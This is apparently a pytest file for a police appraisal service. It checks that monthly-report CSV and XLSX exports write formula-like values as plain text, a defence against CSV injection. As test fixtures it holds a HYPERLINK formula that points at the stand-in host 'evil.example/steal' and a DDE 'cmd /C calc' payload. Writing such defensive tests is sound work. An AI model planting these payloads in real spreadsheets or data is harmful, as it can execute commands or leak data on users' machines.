"""Exports are data, never formulas (issue 12, point 4): a veto reason or an officer's or applicant's name
that a spreadsheet would run as a formula is written as text, in every CSV and XLSX export (OWASP's
CSV-injection rule, service/usecases/export_cells.py). API tests on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook
from sqlalchemy import update

from service.context import ServiceContext
from service.persistence.models import OfficerModel
from service.usecases.excel_sheets import template
from service.usecases.export_cells import FORMULA_PREFIXES, csv_value, xlsx_row
from tests.api.appraisal_steps import officer_of, score_all, seed, tasks_of
from tests.conftest import User

MONTH = "2026-11"
HYPERLINK = '=HYPERLINK("http://evil.example/steal","veto")'
CALC = "=cmd|' /C calc'!A0"


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_each_formula_prefix_is_written_as_text(prefix: str) -> None:
    assert csv_value(f"{prefix}1+2") == f"'{prefix}1+2"
    book = load_workbook(io.BytesIO(template("scores", [(1, f"{prefix}1+2", None)])))
    cell = book["考试成绩"].cell(2, 2)
    assert (cell.value, cell.data_type) == (f"{prefix}1+2", "s")


def test_plain_values_stay_as_they_are() -> None:
    assert [csv_value(v) for v in ("张三", 85, -3, None, "")] == ["张三", 85, -3, "", ""]
    book = load_workbook(io.BytesIO(template("scores", [(7, "张三", 85.5)])))
    assert [c.value for c in book["考试成绩"][2]] == [7, "张三", 85.5]
    assert xlsx_row(book.active, [1, None])[:2] == [1, None]


def test_the_month_report_writes_a_vetoed_officer_and_reason_as_text(
    users: dict[str, User], ctx: ServiceContext
) -> None:
    seed(ctx)
    bureau, gov = users["bureau"], users["gushan_gov"]
    users["bureau_head"].post("/api/v1/appraisals/months", {"month": MONTH}, expect=201)
    score_all(users)
    vetoed = None
    for task in tasks_of(gov, "town_gov:gushan", "veto_decision"):
        officer = officer_of(gov, task)
        data = {"veto": vetoed is None, **({"veto_reason": HYPERLINK} if vetoed is None else {})}
        gov.post(f"/api/v1/tasks/{task['id']}/complete", {"data": data})
        vetoed = vetoed or officer
    for task in tasks_of(bureau, "police_bureau", "confirm_grade"):
        grade = bureau.get(f"/api/v1/tasks/{task['id']}")["form_values"]["grade"]
        decision = {"grade": grade, "promotion_level": "keep", "reward": False}
        bureau.post(f"/api/v1/tasks/{task['id']}/complete", {"data": decision})
    with ctx.database.transaction() as session:  # a name as it came in from an import
        session.execute(update(OfficerModel).where(OfficerModel.id == vetoed).values(name=CALC))

    response = bureau.client.get(
        f"/api/v1/appraisals/reports/{MONTH}?town=gushan&format=csv", headers=bureau._headers()
    )
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    row = next(r for r in rows[1:] if r[0] == str(vetoed))
    assert "'" + CALC in row and "'" + HYPERLINK in row
    assert not any(cell.startswith(FORMULA_PREFIXES) for r in rows for cell in r)

    response = bureau.client.get(
        f"/api/v1/appraisals/reports/{MONTH}?town=gushan&format=xlsx", headers=bureau._headers()
    )
    sheet = load_workbook(io.BytesIO(response.get_data())).active
    cells = [cell for line in sheet.iter_rows(min_row=2) for cell in line]
    assert {(c.value, c.data_type) for c in cells if c.value in (CALC, HYPERLINK)} == {
        (CALC, "s"),
        (HYPERLINK, "s"),
    }
    assert not any(cell.data_type == "f" for cell in cells)
